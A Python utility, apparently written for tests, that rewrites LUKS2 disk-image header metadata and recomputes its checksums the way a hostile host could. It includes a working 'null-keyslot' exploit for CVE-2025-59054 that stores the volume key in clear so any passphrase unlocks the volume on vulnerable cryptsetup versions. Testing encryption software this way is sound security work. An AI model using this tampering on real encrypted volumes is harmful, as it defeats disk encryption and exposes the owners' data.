#!/usr/bin/python3
# Rewrites the JSON metadata of a LUKS2 image the way a hostile host can (the
# header is not keyed): both header copies, their SHA-256 checksums recomputed.
"""LUKS2 header surgery for tests.

  luks2_header.py json IMAGE                 print the metadata JSON (primary copy)
  luks2_header.py set IMAGE DOTTED.PATH JSON set a field, e.g. segments.0.encryption '"cipher_null-ecb"'
  luks2_header.py del IMAGE DOTTED.PATH      delete a field
  luks2_header.py null-keyslot IMAGE SLOT VOLUME_KEY_FILE
        rewrite keyslot SLOT as cipher_null holding the volume key in clear
        (AF-split), so that any passphrase opens it where libcryptsetup lets
        it (CVE-2025-59054, before 2.8.1)

Binary header (4096 bytes, big-endian, as in cryptsetup's docs/on-disk-format-luks2):
magic[6] version:u16 hdr_size:u64 seqid:u64 label[48] checksum_alg[32] salt[64]
uuid[40] subsystem[48] hdr_offset:u64 padding[184] csum[64] padding[3584], then
the JSON area up to hdr_size. The checksum is checksum_alg over the hdr_size
bytes with csum zeroed. The second copy starts at hdr_size.
"""
import hashlib
import json
import struct
import sys

MAGICS = (b"LUKS\xba\xbe", b"SKUL\xba\xbe")
BIN_SIZE = 4096
CSUM_OFF, CSUM_LEN = 448, 64
ALG_OFF, ALG_LEN = 72, 32


def _read_copy(f, offset):
    f.seek(offset)
    binary = f.read(BIN_SIZE)
    if len(binary) != BIN_SIZE or binary[:6] not in MAGICS:
        raise ValueError("no LUKS2 header at offset %d" % offset)
    version, hdr_size = struct.unpack(">HQ", binary[6:16])
    if version != 2 or hdr_size < 16384 or hdr_size > 4 << 20:
        raise ValueError("not a LUKS2 header at %d (version %d, size %d)"
                         % (offset, version, hdr_size))
    area = f.read(hdr_size - BIN_SIZE)
    return bytearray(binary + area), hdr_size


def _checksum(hdr):
    alg = bytes(hdr[ALG_OFF:ALG_OFF + ALG_LEN]).split(b"\0")[0].decode()
    if alg != "sha256":
        raise ValueError("checksum algorithm %r: only sha256 is supported" % alg)
    zeroed = bytearray(hdr)
    zeroed[CSUM_OFF:CSUM_OFF + CSUM_LEN] = bytes(CSUM_LEN)
    digest = hashlib.sha256(zeroed).digest()
    return digest + bytes(CSUM_LEN - len(digest))


def read_json(image):
    with open(image, "rb") as f:
        hdr, hdr_size = _read_copy(f, 0)
    text = bytes(hdr[BIN_SIZE:hdr_size]).split(b"\0")[0]
    return json.loads(text)


def write_json(image, meta):
    """Write meta into both header copies and recompute both checksums."""
    text = json.dumps(meta, separators=(",", ":")).encode()
    with open(image, "r+b") as f:
        primary, hdr_size = _read_copy(f, 0)
        copies = [(0, primary), (hdr_size, _read_copy(f, hdr_size)[0])]
        if len(text) >= hdr_size - BIN_SIZE:
            raise ValueError("JSON of %d bytes does not fit the %d-byte area"
                             % (len(text), hdr_size - BIN_SIZE))
        for offset, hdr in copies:
            hdr[BIN_SIZE:] = text + bytes(hdr_size - BIN_SIZE - len(text))
            hdr[CSUM_OFF:CSUM_OFF + CSUM_LEN] = bytes(CSUM_LEN)
            hdr[CSUM_OFF:CSUM_OFF + CSUM_LEN] = _checksum(hdr)
            f.seek(offset)
            f.write(hdr)


def _walk(meta, dotted):
    keys = dotted.split(".")
    node = meta
    for k in keys[:-1]:
        node = node[int(k)] if isinstance(node, list) else node.setdefault(k, {})
    return node, keys[-1]


def set_field(image, dotted, value):
    meta = read_json(image)
    node, key = _walk(meta, dotted)
    if isinstance(node, list):
        node[int(key)] = value
    else:
        node[key] = value
    write_json(image, meta)


def del_field(image, dotted):
    meta = read_json(image)
    node, key = _walk(meta, dotted)
    del node[int(key) if isinstance(node, list) else key]
    write_json(image, meta)


def _diffuse(block, hash_name):
    size = hashlib.new(hash_name).digest_size
    out = b""
    for i in range(0, len(block), size):
        chunk = block[i:i + size]
        out += hashlib.new(hash_name, struct.pack(">I", i // size) + chunk).digest()[:len(chunk)]
    return out


def af_split(key, stripes, hash_name):
    """LUKS anti-forensic split with zero stripes but the last: the merge
    (diffuse the XOR of each stripe in turn, XOR the last) yields key."""
    d = bytes(len(key))
    for _ in range(stripes - 1):
        d = _diffuse(d, hash_name)
    return bytes(len(key)) * (stripes - 1) + bytes(a ^ b for a, b in zip(d, key))


def null_keyslot(image, slot, volume_key_file):
    with open(volume_key_file, "rb") as f:
        vk = f.read()
    meta = read_json(image)
    ks = meta["keyslots"][str(slot)]
    if ks["key_size"] != len(vk):
        raise ValueError("keyslot %s holds a %d-byte key, not %d" % (slot, ks["key_size"], len(vk)))
    area = af_split(vk, ks["af"]["stripes"], ks["af"]["hash"])
    if len(area) > int(ks["area"]["size"]):
        raise ValueError("the split key does not fit keyslot area %s" % slot)
    ks["area"]["encryption"] = "cipher_null-ecb"
    with open(image, "r+b") as f:
        f.seek(int(ks["area"]["offset"]))
        f.write(area)
    write_json(image, meta)


def main(argv):
    if len(argv) == 3 and argv[1] == "json":
        print(json.dumps(read_json(argv[2]), indent=2))
    elif len(argv) == 5 and argv[1] == "set":
        set_field(argv[2], argv[3], json.loads(argv[4]))
    elif len(argv) == 4 and argv[1] == "del":
        del_field(argv[2], argv[3])
    elif len(argv) == 5 and argv[1] == "null-keyslot":
        null_keyslot(argv[2], int(argv[3]), argv[4])
    else:
        sys.stderr.write(__doc__)
        return 2
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
